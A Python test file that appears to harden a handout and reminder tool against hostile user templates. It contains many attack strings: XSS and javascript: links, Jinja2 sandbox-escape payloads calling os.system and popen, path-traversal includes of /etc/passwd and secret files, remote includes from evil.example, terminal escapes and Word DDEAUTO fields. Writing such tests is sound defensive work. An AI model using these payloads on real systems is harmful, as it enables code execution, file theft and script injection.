"""Sheets, reminders, models and rules from a stranger."""

from __future__ import annotations

from hostile.case import CANARY, Case, Step, on_paper, sheet

# What a sheet says → what is read on it, in every format.
_SAYS = {
    "typst-markup": ("Typst", '#read("/etc/passwd") #import "@preview/x:1.0.0": y $ x $ <a>', None),
    "typst-fence": ("Typst", '```typst\n#read("/etc/passwd")\n```', '#read("/etc/passwd")'),
    "raw-html-block": ("HTML", "<script>alert(1)</script>\n\n<iframe src=//evil.example></iframe>", None),
    "raw-html-inline": ("HTML", "a <img src=x onerror=alert(1)> <b onclick=x>b</b> <!-- c -->", None),
    "html-table-cell": ("HTML", '| a | b |\n|---|---|\n| <script>x</script> | " onmouseover=x |', "<script>x</script>"),
    "entities": ("HTML", "&lt;script&gt; a&#x202e;b&#27;[2Jc&#0;d&#x9b;e &colon;", "<script>"),
    "link-javascript": ("Markdown", "[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](java&#115;cript:x)", "[a](javascript:alert(1))"),
    "link-data-vbscript-file": ("Markdown", "[a](data:text/html,<script>) [b](vbscript:x) [c](file:///etc/passwd)", "a"),
    "link-without-scheme": ("Markdown", "[a](//evil.example/x) [b](\\\\\\\\evil\\\\x) [c](../../x)", "a"),
    "link-breaks-out": ("Markdown", '[a](http://a.example/"onclick="x) [b](<http://a.example/\\>\\"x>)', "a"),
    "link-title": ("Markdown", "[a](http://a.example '\"onclick=\"x')", "a"),
    "link-reference": ("Markdown", "[a][x] [b]\n\n[x]: javascript:alert(1)\n[b]: data:x 'y'", "[a][x] [b]"),
    "autolink": ("Markdown", "<javascript:x> <http://evil.example/x> http://evil.example/y", "<javascript:x>"),
    "image": ("Markdown", "![a](http://evil.example/x.png) ![b](file:///etc/passwd)", "a"),
    "control-characters": ("terminal", "a\x1b[2Jb\x1b]52;c;eA==\x07c\x9bd\x7fe\u202ef\0g", "a[2Jb]52;c;eA==cdefg"),
    "word-fields": ("Word", '{INCLUDETEXT "/etc/passwd"} {DDEAUTO cmd} {=HYPERLINK "x"}', None),
    "rich-markup": ("rich markup", "[red]a[/red] [link=http://evil.example]b[/link]", None),
    "fences-with-values": ("Markdown", "```signatures\n{{ group.note }} | b\n```\n\n```cards\n{{ group.note }}\n```\n\n```timeline\n{{ group.note }}\nx | {{ group.note }} | y\n```", "``` | # x"),
}  # fmt: skip

_SHEETS = [
    Case(
        id=f"sheet-{key}",
        subject=subject,
        where="own sheet",
        plan={"group / note": "``` | \n# x"},
        files=sheet(body),
        steps=on_paper(holds=[shown or body]),
        never=["root:x:"],
        slow=key not in {"typst-markup", "raw-html-block", "image", "control-characters"},
    )
    for key, (subject, body, shown) in _SAYS.items()
]

# Ways into Python that are known from elsewhere → what the refusal says.
_UNSAFE, _UNDEFINED = "is unsafe", "is undefined"
_ESCAPES = {
    "mro": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", _UNSAFE),
    "globals-of-cycler": ("{{ cycler.__init__.__globals__.os.system('touch sang') }}", _UNSAFE),
    "globals-of-lipsum": ("{{ lipsum.__globals__['os'].popen('id').read() }}", _UNDEFINED),
    "globals-of-range": ("{{ range.__globals__ }}", _UNSAFE),
    "globals-of-dict": ("{{ dict.__globals__ }}", _UNSAFE),
    "globals-of-namespace": ("{{ namespace.__init__.__globals__ }}", _UNSAFE),
    "globals-of-self": ("{{ self.__init__.__globals__ }}", _UNSAFE),
    "globals-of-a-macro": ("{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}", _UNSAFE),
    "globals-of-a-loop": ("{% for x in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}", _UNSAFE),
    "globals-of-a-value": ("{{ group.__init__.__globals__ }}", _UNSAFE),
    "globals-of-a-method": ("{{ group.name.upper.__self__ }}", _UNSAFE),
    "inside-of-self": ("{{ self._TemplateReference__context }}", _UNSAFE),
    "inside-of-a-value": ("{{ group.__dict__ }}", _UNSAFE),
    "item-instead-of-attribute": ("{{ group['__class__'] }}", _UNSAFE),
    "attr-filter": ("{{ group|attr('__class__') }}", _UNSAFE),
    "attr-put-together": ("{{ group|attr('__cla' ~ 'ss__') }}", _UNSAFE),
    "map-attribute": ("{{ [group]|map(attribute='__class__.__mro__')|list }}", _UNSAFE),
    "sort-attribute": ("{{ [group, group]|sort(attribute='__class__') }}", _UNSAFE),
    "select-attribute": ("{{ [group]|selectattr('__class__')|list }}", _UNSAFE),
    "sum-attribute": ("{{ [group]|sum(attribute='__class__') }}", _UNSAFE),
    "format-method": ("{{ '{0.__class__}'.format(group) }}", _UNSAFE),
    "format-map-method": ("{{ '{a.__class__}'.format_map({'a': group}) }}", _UNSAFE),
    "format-by-map": ("{{ ['{0.__class__}']|map('format', group)|list }}", "format"),
    "format-of-markup": ("{{ ('{0.__class__}'|safe).format(group) }}", _UNSAFE),
    "percent": ("{{ '%r' % group }}", "“%” of so much"),
    "generator-frame": ("{{ (['a']|map('upper')).gi_frame.f_globals }}", _UNSAFE),
    "generator-code": ("{{ (['a']|select).gi_code }}", _UNSAFE),
    "mutate-a-list": ("{{ [1].append(2) }}", _UNSAFE),
    "mutate-a-mapping": ("{{ rounds.clear() }}", _UNSAFE),
    "number-to-bytes": ("{{ (1).to_bytes(9, 'big') }}", _UNSAFE),
    "codec": ("{{ 'x'.encode('idna') }}", _UNSAFE),
    "open": ("{{ open('outside/hemmelig.txt').read() }}", _UNDEFINED),
    "import-statement": ("{% import 'os' as os %}{{ os.system('touch sang') }}", "os"),
    "from-import": ("{% from 'kanarifugl' import sang %}", "kanarifugl"),
    "do-extension": ("{% do group.x() %}", "Encountered unknown tag 'do'"),
    "debug-extension": ("{% debug %}", "Encountered unknown tag 'debug'"),
    "web-frameworks": ("{{ config }}{{ request }}{{ url_for.__globals__ }}", _UNDEFINED),
    "environment-variable": ("{{ environ }}", _UNDEFINED),
    "write-a-value": ("{% set group.name = 'x' %}", "namespace"),
    "unsafe-by-name": ("{% set x = namespace() %}{% set x.__class__ = 'y' %}{{ x.__class__ }}", ""),
}  # fmt: skip

_SANDBOX = [
    Case(
        id=f"sandbox-{key}",
        subject="sandbox",
        where="own sheet",
        files=sheet(body),
        steps=[
            Step("handout fremmed", code=65, err=["nb.md.j2:", why]),
        ],
        never=["<class", "<function", "<built-in", "at 0x"],
    )
    for key, (body, why) in _ESCAPES.items()
]

_READING = {
    "absolute": "{% include '/etc/passwd' %}",
    "dots": "{% include '../../../../../../etc/passwd' %}",
    "dots-to-the-secret": "{% include '../../outside/hemmelig.txt' %}",
    "own-plan": "{% include '../tirsdagsgruppa.toml' %}",
    "backslashes": "{% include '..\\\\..\\\\outside\\\\hemmelig.txt' %}",
    "windows-drive": "{% include 'C:\\\\Windows\\\\win.ini' %}",
    "unc": "{% include '//evil.example/share/x.j2' %}",
    "url": "{% include 'http://evil.example/x.j2' %}",
    "nul": "{% include 'handouts/fremmed/nb.md.j2\\0.txt' %}",
    "very-long": "{% include 'x' * 50000 %}",
    "other-kind": "{% include 'handouts/fremmed/notat.txt' %}",
    "import": "{% import '../../outside/hemmelig.txt' as x %}{{ x }}",
    "extends": "{% extends '../../outside/hemmelig.txt' %}",
    "list-of-names": "{% include ['/etc/passwd', '../../outside/hemmelig.txt'] %}",
    "ignore-missing": "{% include '../../outside/hemmelig.txt' ignore missing %}{{ x }}",
}

_INCLUDES = [
    Case(
        id=f"include-{key}",
        subject="paths",
        where="own sheet",
        files=sheet(body) | {"templates/handouts/fremmed/notat.txt": f"{CANARY}\n"},
        steps=[Step("handout fremmed", code=65, err=["nb.md.j2:7"])],
        never=["root:x:", "schema = 1"],
    )
    for key, body in _READING.items()
]

_OTHERS = [
    Case(
        id="sandbox-groupby-attribute",
        subject="sandbox",
        where="own sheet",
        files=sheet("{% for one, _all in [group]|groupby('__class__') %}a{{ one }}{% endfor %}"),
        steps=[Step("handout fremmed", code=65, err=["nb.md.j2:7"])],
        never=["<class"],
    ),
    Case(
        id="reminder-block-reads-a-file",
        subject="sandbox",
        where="own reminder",
        files={
            "templates/reminders/nb.md.j2": "{% block first_meeting_day %}# T\n\n"
            "{% include '../../outside/hemmelig.txt' %}{% endblock %}"
        },
        steps=[
            Step("remind --today 2027-01-11", code=65, err=["nb.md.j2:3", "hemmelig.txt"]),
            Step("remind --today 2027-01-11 --mail draft", code=65, err=["hemmelig.txt"]),
            Step("calendar", code=65, err=["hemmelig.txt"]),
        ],
    ),
    Case(
        id="reminder-block-with-everything",
        subject="HTML",
        where="own reminder",
        files={
            "templates/reminders/nb.md.j2": "{% block first_meeting_day %}# T <script>x</script>\n\n"
            "<img src=x> [a](javascript:x)\x1b[2J\r\nATTACH:http://evil.example{% endblock %}"
        },
        steps=[
            Step("remind --today 2027-01-11", out=["<img src=x> [a](javascript:x)[2J"]),
            Step("remind --today 2027-01-11 --json"),
            Step("remind --today 2027-01-11 --mail draft", holds=["<script>x</script>"]),
            Step("calendar", holds=["<script>x</script>"]),
        ],
    ),
    Case(
        id="rules-that-make-no-sense",
        subject="paths",
        where="own rules",
        files={"templates/reminders/rules.toml": '["../../x"]\nanchor = "first"\ndue = -1\n'},
        steps=[Step("remind --today 2027-01-11", code=78, err=["rules.toml", "../../x"])],
    ),
    Case(
        id="rules-name-a-sheet-outside",
        subject="paths",
        where="own rules",
        files={
            "templates/reminders/rules.toml": '[first-meeting-day]\nhandouts = ["../../outside/hemmelig"]\n'
        },
        steps=[
            Step("remind --today 2027-01-11", out=["Tirsdagsgruppa"]),
            Step("remind --today 2027-01-11 --mail draft --attach", holds=["Tirsdagsgruppa"]),
        ],
    ),
    Case(
        id="model-words-with-control-characters",
        subject="terminal",
        where="own model",
        files={
            "templates/models/fremmed.toml": 'id = "fremmed"\norganisation = "\\u001b[2J[red]x"\nevil = 1\n'
        },
        steps=[
            Step("new-group --model list", code=65, err=["fremmed.toml", "evil"]),
            Step("show", out=["Tirsdagsgruppa"]),
            Step("templates check --today 2027-01-11", code=65, err=["fremmed.toml"]),
        ],
    ),
    Case(
        id="title-with-control-characters",
        subject="terminal",
        where="own sheet",
        files={
            "templates/handouts/fremmed/nb.md.j2": '+++\ntitle = "a\\u001b[2J"\naudience = "group"\n+++\n# T\n',
            "templates/handouts/fremmed/en.md.j2": '+++\ntitle = "a\\u001b[2J"\naudience = "group"\n+++\n# T\n',
        },
        steps=[
            Step("handout", code=65, out=["Checklist"], err=["en.md.j2", r"'a\x1b[2J'"]),
            Step("handout fremmed", code=65, err=["nb.md.j2"]),
        ],
    ),
    Case(
        id="title-of-a-thousand-letters",
        subject="Word",
        where="own sheet",
        files={
            "templates/handouts/fremmed/nb.md.j2": f'+++\ntitle = "{"x" * 1000}"\naudience = "group"\n+++\n# T\n\nord\n'
        },
        steps=on_paper(holds=["ord"]),
    ),
    Case(
        id="sheet-asks-for-what-is-hers",
        subject="privacy",
        where="own sheet",
        plan={
            "place / access": "kode 4711 på døra",
            "place / url": "https://rom.example/hemmelig",
            "initiators / i1 / name": "Kari Nordmann",
            "initiators / i1 / phone": "90 00 00 00",
        },
        files=sheet("ord {{ place.access }}{{ place.url }}{{ initiators[0].phone }}"),
        steps=on_paper(holds=["ord"]),
        never=["4711", "rom.example", "90 00"],
    ),
]  # fmt: skip

CASES = [*_SHEETS, *_SANDBOX, *_INCLUDES, *_OTHERS]
